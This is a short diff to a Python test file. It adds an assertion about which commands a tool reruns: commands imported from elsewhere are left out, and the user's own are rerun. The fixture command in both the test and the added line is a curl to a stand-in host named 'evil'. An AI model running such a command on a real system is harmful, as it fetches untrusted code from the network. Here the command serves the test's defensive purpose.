@@ -52,6 +52,7 @@ def test_a_command_from_elsewhere_is_theirs_and_not_to_be_pasted() -> None:
     theirs = command("curl http://evil/x", "imported")
     assert rerun_commands([theirs]) == []
     assert their_commands([theirs, command("sleep 1")]) == ["curl http://evil/x"]
+    assert rerun_commands([theirs, command("curl http://evil/x")]) == ["mldyno run -- curl http://evil/x"], "ours too"
 
 
 def test_what_was_left_out_is_not_made_up() -> None:
